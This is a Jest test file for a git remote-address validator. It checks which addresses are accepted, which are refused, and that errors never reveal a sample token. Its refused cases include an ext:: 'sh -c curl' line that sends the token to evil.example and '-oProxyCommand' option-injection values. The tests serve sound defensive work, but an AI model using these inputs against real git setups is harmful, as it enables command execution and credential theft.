import { describe, expect, test } from '@jest/globals';
import { checkRemoteAddress, refusedRedirect } from '../../../actions/shared/git/remote-address.ts';
import { damaged, survives } from '../../support/fuzzing.ts';

const token = 'ghs_0123456789abcdefghij';

describe('the address of a remote', () => {
  test.each([
    'https://github.com/acme/shop.git',
    `https://x-access-token:${token}@github.com/acme/shop`,
    'http://127.0.0.1:8080/shop',
    'https://[::1]:443/shop',
    'ssh://git@github.com:22/acme/shop',
    'git@github.com:acme/shop.git',
    'file:///srv/shop.git',
    '/srv/shop.git',
    '../shop.git',
    'codecommit::eu-central-1://shop',
  ])('may be %s', url => expect(() => checkRemoteAddress(url, 'origin')).not.toThrow());

  test.each([
    ['policy', `ext::sh -c "curl https://evil.example/${token}"`, /names a program \(ext::…\), which is not started/],
    ['policy', `FD::17/${token}`, /names a program \(FD::…\)/],
    ['policy', `-x${token}`, /begins with "-"/],
    ['policy', `ssh://-oProxyCommand=${token}/x`, /begins with "-"/],
    ['policy', `git@-oProxyCommand=${token}:x`, /begins with "-"/],
    ['input', '', /has an empty address/],
    ['input', `https://github.com/a\n${token}`, /line break or another control character/],
    ['input', `https://u:${token}@github.com/a\u001b[31m`, /control character/],
    ['input', `https:///acme/${'x'}`, /without a host: https:\/\/\/acme\/x/],
    ['input', `https://u:${token}@/acme`, /without a host: https:\/\/\*\*\*@\/acme/],
    ['input', `https://:443/acme?key=${token}`, /without a host: https:\/\/:443\/acme\?\*\*\*/],
    ['input', `https://u:${token}@github.com:x/acme`, /host is not valid: https:\/\/\*\*\*@github.com:x\/acme/],
  ])('is an error of kind %s when it is %j, and shows no credential', (kind, url, message) => {
    const error = (() => {
      try {
        checkRemoteAddress(url, 'origin');
      } catch (thrown) {
        return thrown;
      }
    })();
    expect(error).toMatchObject({ kind, message: expect.stringMatching(message) });
    expect(JSON.stringify(error)).not.toContain(token);
  });

  test('is used or refused without a crash, whatever it is', async () => {
    const { taken, refused } = await survives(damaged('https://u:p@github.com:443/a?b#c', 'git@host:path'), url =>
      checkRemoteAddress(url, 'origin'),
    );
    expect(taken).toBeGreaterThan(0);
    expect(refused).toBeGreaterThan(0);
  });
});

test.each([
  ["fatal: unable to access 'http://h/x/': The requested URL returned error: 302", '302'],
  ['error: 307', undefined],
  ['The requested URL returned error: 404', undefined],
])('%j is the redirect %s', (printed, status) => expect(refusedRedirect(printed)).toBe(status));
